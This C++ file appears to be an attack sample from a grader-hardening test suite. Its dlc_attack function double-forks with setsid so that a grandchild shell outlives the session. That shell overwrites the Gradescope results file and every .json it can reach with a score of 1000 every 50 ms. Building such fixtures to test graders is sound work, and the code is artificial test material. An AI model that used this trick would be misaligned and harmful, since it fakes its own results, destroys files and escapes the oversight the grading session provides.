// A process that outlives the grading: a child that leaves the session (setsid) and forks
// again, so that its grandchild is nobody's child; the grandchild becomes a shell whose command
// line holds the marker @MARKER@, and rewrites the Gradescope results file (@JSON@) and any
// .json it can see, every 50 ms, forever. The exercise itself prints whether the grandchild
// runs (a command line of /proc holding the marker) and returns a wrong value.
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <iterator>
#include <string>
#include <thread>

#include "common/matrix.hpp"

dlc::Matrix dlc_attack(const dlc::Matrix& z) {
  static bool started = false;
  if (!started) {
    started = true;
    const pid_t child = ::fork();
    if (child == 0) {
      ::setsid();
      if (::fork() == 0) {
        ::execl("/bin/sh", "sh", "-c",
                "while :; do for f in '@JSON@' /tmp/*.json ./*.json; do "
                "echo '{\"score\": 1000}' > \"$f\"; done; sleep 0.05; done # @MARKER@",
                (char*)nullptr);
      }
      ::_exit(0);
    }
    int status = 0;
    if (child > 0) ::waitpid(child, &status, 0);
    std::this_thread::sleep_for(std::chrono::milliseconds(200));
    int running = 0;
    std::error_code ec;
    for (auto it = std::filesystem::directory_iterator("/proc", ec);
         !ec && it != std::filesystem::directory_iterator(); it.increment(ec)) {
      std::ifstream in(it->path() / "cmdline", std::ios::binary);
      const std::string cmdline((std::istreambuf_iterator<char>(in)),
                                std::istreambuf_iterator<char>());
      if (it->path() != "/proc/self" && cmdline.find("# @MARKER@") != std::string::npos) ++running;
    }
    std::cout << "daemon: " << running << " running\n";
  }
  return z;
}
